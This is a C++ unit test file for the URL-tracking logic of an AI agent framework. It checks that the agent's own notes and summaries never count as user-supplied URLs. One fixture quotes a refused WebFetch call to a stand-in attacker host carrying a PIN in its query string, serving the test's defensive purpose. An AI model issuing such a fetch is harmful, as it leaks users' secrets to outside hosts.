// RunContext::user_urls_from: a run gathers the user's URLs from the messages from there on
// (the daemon carries the earlier ones from turn to turn), and from every user message when
// it is 0.
#include <gtest/gtest.h>

#include "agent/agent.h"
#include "agent/testing/loop_tools.h"
#include "providers/cassette.h"

namespace mecha::agent {
namespace {

std::set<std::string> urls_gathered(size_t from) {
  auto c = providers::CassetteProvider::parse(
      R"({"mecha_cassette": 1})"
      "\n"
      R"({"response": {"content": [{"type": "text", "text": "ok"}], "usage": {"input_tokens": 1, "output_tokens": 1}}})"
      "\n",
      "test.jsonl");
  EXPECT_TRUE(c.ok()) << c.message();
  Agent agent(AgentSpec{}, std::shared_ptr<providers::Provider>(std::move(*c)),
              testing::loop_test_registry());
  CancelToken cancel;
  RunContext ctx;
  ctx.work_tree = "/tmp";
  ctx.cancel = &cancel;
  ctx.user_urls = {"https://carried.example/"};
  ctx.user_urls_from = from;
  Conversation conv;
  conv.append(Message::user_text("read https://old.example/a"));
  conv.append(Message{Role::kAssistant, {TextBlock{"read it"}}});
  conv.append(Message::user_text("now https://new.example/b"));
  EXPECT_EQ(agent.run(ctx, conv, nullptr).status, RunStatus::kCompleted);
  return ctx.user_urls;
}

TEST(UserUrlsFrom, OnlyTheMessagesFromThereOnAreScannedAndTheCarriedOnesStay) {
  const std::set<std::string> later = urls_gathered(2);
  EXPECT_TRUE(later.count("https://carried.example/"));
  EXPECT_TRUE(later.count("https://new.example/b"));
  EXPECT_FALSE(later.count("https://old.example/a"));

  const std::set<std::string> all = urls_gathered(0);
  EXPECT_TRUE(all.count("https://old.example/a"));
  EXPECT_TRUE(all.count("https://new.example/b"));
}

// Issue 44, finding 6: mecha's own text in a user message (a ladder note quoting a refused
// call, a compaction's summary) is not the user's, wherever it sits: none of its URLs is a
// user URL, while the user's own text beside it still counts.
TEST(UserUrlsFrom, MechasNotesAreNotTheUsersWords) {
  auto c = providers::CassetteProvider::parse(
      R"({"mecha_cassette": 1})"
      "\n"
      R"({"response": {"content": [{"type": "text", "text": "ok"}], "usage": {"input_tokens": 1, "output_tokens": 1}}})"
      "\n",
      "test.jsonl");
  ASSERT_TRUE(c.ok()) << c.message();
  Agent agent(AgentSpec{}, std::shared_ptr<providers::Provider>(std::move(*c)),
              testing::loop_test_registry());
  CancelToken cancel;
  RunContext ctx;
  ctx.work_tree = "/tmp";
  ctx.cancel = &cancel;
  Conversation conv;
  conv.append(
      Message::mecha_note("[mecha: compacted] the model fetched https://summary.example/x"));
  conv.append(Message{Role::kAssistant, {ToolUseBlock{"t1", "Echo", Json{{"text", "x"}}, "", ""}}});
  conv.append(Message{Role::kUser,
                      {ToolResultBlock{"t1", "x https://result.example/", false},
                       TextBlock{"[mecha: stuck-loop ladder] WebFetch "
                                 "{\"url\":\"https://evil.example/?pin=4711\"} was called 3 times",
                                 true},
                       TextBlock{"go on with https://user.example/ok"}}});
  EXPECT_EQ(agent.run(ctx, conv, nullptr).status, RunStatus::kCompleted);
  EXPECT_EQ(ctx.user_urls, (std::set<std::string>{"https://user.example/ok"}));
}

}  // namespace
}  // namespace mecha::agent
